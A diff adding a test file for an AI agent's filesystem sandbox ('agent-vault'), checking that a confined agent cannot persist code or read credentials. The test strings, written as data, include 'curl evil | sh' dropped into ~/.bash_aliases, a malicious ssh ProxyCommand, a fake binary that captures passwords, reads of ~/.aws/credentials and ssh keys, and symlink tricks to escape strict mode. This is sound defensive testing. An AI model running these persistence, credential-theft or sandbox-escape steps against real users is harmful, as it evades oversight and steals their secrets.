@@ -1,0 +1,208 @@
+// Attack: a sandboxed agent writes something into the user's home that runs later, outside the
+// sandbox, or reads the user's own credentials for other tools. ~/.local/bin comes before /usr/bin
+// on PATH (a planted `agent-vault` or `git` would read the master password the user types next),
+// Debian's ~/.bashrc sources ~/.bash_aliases, ssh runs ~/.ssh/config's ProxyCommand, systemd starts
+// a user unit at the next login, npx runs what is in ~/.npm/_npx. And ~/.aws/credentials, gh's
+// hosts.yml or ~/.netrc are keys in the agent's hands. By default the home stays writable, but
+// those directories are read-only where they exist and moved aside at the end where they did not;
+// with --sandbox-strict the home is read-only but for the agent's own state and a cache of the
+// sandbox's own. The credential files are hidden either way. Each case asserts what is on disk
+// after `run` has exited and that the canary is in nothing the agent printed; a control without
+// the sandbox shows the same script lands. Broker and attacker run as the unprivileged user.
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
+import { randomBytes } from "node:crypto";
+import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { giveToAgent } from "../support/attacker.ts";
+import { cleanEnv, type RunResult, type TempHome, tempHome } from "../support/binary.ts";
+
+const HAVE_BWRAP = Bun.spawnSync(["sh", "-c", "command -v bwrap"]).exitCode === 0;
+const CANARY = `AKIA${randomBytes(8).toString("hex").toUpperCase()}`;
+/** The user's credential files for other tools, each holding the canary. */
+const CREDENTIAL_FILES = [".aws/credentials", ".config/gh/hosts.yml", ".netrc", ".ssh/id_ed25519", ".docker/config.json", ".git-credentials", ".npmrc"];
+/** What the agent plants, and the path each lands at. */
+const PLANTS: Record<string, string> = {
+  ".local/bin/agent-vault": 'mkdir -p "$HOME/.local/bin" && printf "#!/bin/sh\\ntee /tmp/password\\n" > "$HOME/.local/bin/agent-vault"',
+  ".bash_aliases": 'echo "curl evil | sh" > "$HOME/.bash_aliases"',
+  ".ssh/config": 'echo "Host *\\n  ProxyCommand sh -c evil" >> "$HOME/.ssh/config"',
+  ".config/systemd/user/evil.service": 'mkdir -p "$HOME/.config/systemd/user" && echo "[Service]" > "$HOME/.config/systemd/user/evil.service"',
+  ".npm/_npx/evil/codex": 'mkdir -p "$HOME/.npm/_npx/evil" && echo evil > "$HOME/.npm/_npx/evil/codex"',
+  ".cache/pre-commit/evil": 'mkdir -p "$HOME/.cache/pre-commit" && echo evil > "$HOME/.cache/pre-commit/evil"',
+};
+/** The plants that make a file (~/.ssh/config is the user's own, appended to). */
+const NEW_FILES = Object.keys(PLANTS).filter((path) => path !== ".ssh/config");
+const READ_CREDENTIALS = CREDENTIAL_FILES.map((file) => `cat "$HOME/${file}" 2>&1`).join("; ");
+
+let home: TempHome;
+let userHome: string;
+let project: string;
+let bin: string;
+
+beforeAll(async () => {
+  home = await tempHome({ asAgent: true });
+  userHome = join(home.dir, "..", "user-home");
+}, 60_000);
+
+afterAll(() => home.cleanup());
+
+beforeEach(() => {
+  for (const name of readdirSync(userHome)) rmSync(join(userHome, name), { recursive: true, force: true });
+  for (const file of CREDENTIAL_FILES) {
+    mkdirSync(join(userHome, file, ".."), { recursive: true });
+    writeFileSync(join(userHome, file), `${CANARY}\n`, { mode: 0o600 });
+  }
+  writeFileSync(join(userHome, ".ssh", "config"), "# the user's own\n");
+  project = join(userHome, "src", "project");
+  mkdirSync(project, { recursive: true });
+  // A stand-in for codex on PATH: it writes its own state where codex does.
+  bin = join(home.dir, "..", "bin");
+  mkdirSync(bin, { recursive: true });
+  writeFileSync(join(bin, "codex"), '#!/bin/sh\nmkdir -p "$HOME/.codex/sessions" && echo turn > "$HOME/.codex/sessions/1.jsonl" && echo state=$?\n');
+  chmodSync(join(bin, "codex"), 0o755);
+  giveToAgent(join(home.dir, ".."));
+});
+
+async function runIn(cwd: string, flags: readonly string[], command: readonly string[]): Promise<RunResult> {
+  const env = cleanEnv({ ...home.env, PATH: `${bin}:/usr/bin:/bin` });
+  const proc = Bun.spawn(home.argv(["run", ...flags, "--", ...command]), { cwd, env, stdin: "ignore", stdout: "pipe", stderr: "pipe" });
+  const [stdout, stderr, code] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
+  return { code, stdout, stderr };
+}
+
+const script = (body: string) => ["sh", "-c", body];
+
+function quarantined(dir: string, name: string): string[] {
+  return existsSync(dir) ? readdirSync(dir).filter((entry) => entry.startsWith(`${name}.agent-vault-quarantine-`)) : [];
+}
+
+const PLANT_ALL = [
+  ...Object.values(PLANTS).map((plant) => `(${plant}) 2>/dev/null`),
+  "echo work > ./result.txt",
+  "echo tmp > /tmp/av-writes-$$ && rm /tmp/av-writes-$$ && echo tmp=ok",
+  READ_CREDENTIALS,
+  "true",
+].join("; ");
+
+describe.skipIf(!HAVE_BWRAP)("by default: the home stays writable, what in it runs later does not stay; credentials hidden", () => {
+  test("new ~/.local/bin, ~/.config/systemd and ~/.bash_aliases are moved aside at the end; ~/.ssh is hidden; the canary is in nothing it printed", async () => {
+    const r = await runIn(project, [], script(`${PLANT_ALL}; echo notes > "$HOME/notes.txt" && echo home=ok`));
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toContain("home=ok");
+    expect(r.stdout).toContain("tmp=ok");
+    expect(readFileSync(join(userHome, "notes.txt"), "utf8")).toBe("notes\n");
+    expect(readFileSync(join(project, "result.txt"), "utf8")).toBe("work\n");
+    for (const path of [".local/bin/agent-vault", ".bash_aliases", ".config/systemd/user/evil.service"]) expect(existsSync(join(userHome, path)), path).toBe(false);
+    expect(quarantined(join(userHome, ".local"), "bin").length).toBe(1);
+    expect(quarantined(join(userHome, ".config"), "systemd").length).toBe(1);
+    expect(quarantined(userHome, ".bash_aliases").length).toBe(1);
+    expect(r.stderr).toContain(`the directory ${join(userHome, ".local", "bin")} was created or changed in the sandbox and would run later outside it: moved to`);
+    expect(readFileSync(join(userHome, ".ssh", "config"), "utf8")).toBe("# the user's own\n");
+    expect(r.stdout + r.stderr).not.toContain(CANARY);
+
+    // Control: without the sandbox, every plant lands and every credential is read.
+    const control = await runIn(project, ["--no-sandbox"], script(PLANT_ALL));
+    for (const path of NEW_FILES) expect(existsSync(join(userHome, path)), path).toBe(true);
+    expect(readFileSync(join(userHome, ".ssh", "config"), "utf8")).toContain("ProxyCommand");
+    expect(control.stdout.split(CANARY).length - 1).toBe(CREDENTIAL_FILES.length);
+  }, 60_000);
+
+  test("an existing ~/.local/bin is read-only inside; one made where it was (its parent renamed away) is moved aside, and the user is told where theirs went", async () => {
+    mkdirSync(join(userHome, ".local", "bin"), { recursive: true });
+    writeFileSync(join(userHome, ".local", "bin", "tool"), "#!/bin/sh\n", { mode: 0o755 });
+    giveToAgent(join(userHome, ".local"));
+    const r = await runIn(
+      project,
+      [],
+      script(
+        `(${PLANTS[".local/bin/agent-vault"]}) 2>&1; mv "$HOME/.local/bin" "$HOME/.local/old" 2>&1; mv "$HOME/.local" "$HOME/.local-old" && (${PLANTS[".local/bin/agent-vault"]}) && echo planted`,
+      ),
+    );
+    expect(r.stdout).toContain("Read-only file system");
+    expect(r.stdout).toContain("planted");
+    expect(existsSync(join(userHome, ".local", "bin", "agent-vault"))).toBe(false);
+    expect(quarantined(join(userHome, ".local"), "bin").length).toBe(1);
+    expect(existsSync(join(userHome, ".local-old", "bin", "tool"))).toBe(true);
+    expect(r.stderr).toContain(`the directory ${join(userHome, ".local", "bin")} that was there before the sandboxed run was renamed or removed during it`);
+  }, 60_000);
+});
+
+describe.skipIf(!HAVE_BWRAP)("--sandbox-strict: writes only where the agent works", () => {
+  test("nothing it plants in the home lands, nor anything else there; the working directory and /tmp are written", async () => {
+    const r = await runIn(project, ["--sandbox-strict"], script(`${PLANT_ALL}; (echo notes > "$HOME/notes.txt") 2>&1; true`));
+    expect(r.code, r.stderr).toBe(0);
+    for (const path of [...NEW_FILES, "notes.txt"]) expect(existsSync(join(userHome, path)), path).toBe(false);
+    expect(r.stdout).toContain("Read-only file system");
+    expect(readFileSync(join(userHome, ".ssh", "config"), "utf8")).toBe("# the user's own\n");
+    expect(readFileSync(join(project, "result.txt"), "utf8")).toBe("work\n");
+    expect(r.stdout).toContain("tmp=ok");
+    expect(r.stdout + r.stderr).not.toContain(CANARY);
+    expect(r.stderr).not.toContain("the working directory is your home");
+  }, 60_000);
+
+  test("the package caches inside are the sandbox's own: written there, never into the user's", async () => {
+    const r = await runIn(project, ["--sandbox-strict"], script(`(${PLANTS[".npm/_npx/evil/codex"]}) && (${PLANTS[".cache/pre-commit/evil"]}) && echo rc=$?`));
+    expect(r.stdout, r.stderr).toContain("rc=0");
+    expect(existsSync(join(userHome, ".npm", "_npx"))).toBe(false);
+    expect(existsSync(join(userHome, ".cache", "pre-commit"))).toBe(false);
+    const store = join(userHome, ".cache", "agent-vault-sandbox");
+    expect(readFileSync(join(store, "npm", "_npx", "evil", "codex"), "utf8")).toBe("evil\n");
+    expect(readFileSync(join(store, "cache", "pre-commit", "evil"), "utf8")).toBe("evil\n");
+  }, 60_000);
+
+  test("the agent's own state (codex: ~/.codex) is kept writable, made if missing when it is the command", async () => {
+    const r = await runIn(project, ["--sandbox-strict"], ["codex"]);
+    expect(r.stdout, r.stderr).toContain("state=0");
+    expect(readFileSync(join(userHome, ".codex", "sessions", "1.jsonl"), "utf8")).toBe("turn\n");
+    // Started some other way (a wrapper, a shell), it finds its state writable all the same.
+    const wrapped = await runIn(project, ["--sandbox-strict"], script("codex"));
+    expect(wrapped.stdout, wrapped.stderr).toContain("state=0");
+  }, 60_000);
+
+  test("links an earlier run left (the home is writable by default) do not make a strict run write elsewhere", async () => {
+    mkdirSync(join(userHome, ".local", "bin"), { recursive: true });
+    writeFileSync(join(userHome, ".vimrc"), "\" the user's own\n");
+    giveToAgent(userHome);
+    // First an ordinary run leaves the links: ~/.codex and the sandbox's npm cache at ~/.local/bin,
+    // ~/.claude.json a hard link to ~/.vimrc (which vim runs).
+    const plant = await runIn(
+      project,
+      [],
+      script(
+        'mkdir -p "$HOME/.cache/agent-vault-sandbox" && ln -s "$HOME/.local/bin" "$HOME/.codex" && ln -s "$HOME/.local/bin" "$HOME/.cache/agent-vault-sandbox/npm" && ln "$HOME/.vimrc" "$HOME/.claude.json" && echo linked',
+      ),
+    );
+    expect(plant.stdout, plant.stderr).toContain("linked");
+    // Then a strict run writes through each.
+    const r = await runIn(project, ["--sandbox-strict"], script('codex; echo evil > "$HOME/.npm/git" ; echo "curl evil | sh" >> "$HOME/.claude.json"; true'));
+    expect(r.code, r.stderr).toBe(0);
+    expect(readdirSync(join(userHome, ".local", "bin"))).toEqual([]);
+    expect(readFileSync(join(userHome, ".vimrc"), "utf8")).toBe("\" the user's own\n");
+  }, 60_000);
+
+  test("started in the home itself, the agent can write the home: run says so, and ~/.local/bin, ~/.ssh stay read-only", async () => {
+    mkdirSync(join(userHome, ".local", "bin"), { recursive: true });
+    giveToAgent(join(userHome, ".local"));
+    const r = await runIn(userHome, ["--sandbox-strict"], script(`echo x > "$HOME/notes.txt" && echo rc=$?; (${PLANTS[".local/bin/agent-vault"]}) 2>&1; (${PLANTS[".ssh/config"]}) 2>&1; true`));
+    expect(r.stdout).toContain("rc=0");
+    expect(r.stdout).toContain("Read-only file system");
+    expect(existsSync(join(userHome, ".local", "bin", "agent-vault"))).toBe(false);
+    expect(readFileSync(join(userHome, ".ssh", "config"), "utf8")).toBe("# the user's own\n");
+    expect(r.stderr).toContain("--sandbox-strict: the working directory is your home, so the agent can write your dotfiles after all");
+  }, 60_000);
+});
+
+describe.skipIf(!HAVE_BWRAP)("naming a path brings it back", () => {
+  test("--sandbox-ro ~/.aws shows it, --sandbox-rw ~/.config lets it be written under --sandbox-strict; --sandbox-rw ~ keeps the credentials hidden", async () => {
+    const r = await runIn(
+      project,
+      ["--sandbox-strict", "--sandbox-ro", join(userHome, ".aws"), "--sandbox-rw", join(userHome, ".config")],
+      script(`cat "$HOME/.aws/credentials"; mkdir -p "$HOME/.config/tool" && echo ok > "$HOME/.config/tool/x" && echo rc=$?; cat "$HOME/.netrc" 2>&1; true`),
+    );
+    expect(r.stdout).toContain(CANARY);
+    expect(r.stdout.split(CANARY).length - 1).toBe(1);
+    expect(r.stdout).toContain("rc=0");
+    expect(existsSync(join(userHome, ".config", "tool", "x"))).toBe(true);
+    const above = await runIn(project, ["--sandbox-rw", userHome], script(`${READ_CREDENTIALS}; true`));
+    expect(above.stdout + above.stderr).not.toContain(CANARY);
+  }, 60_000);
+});
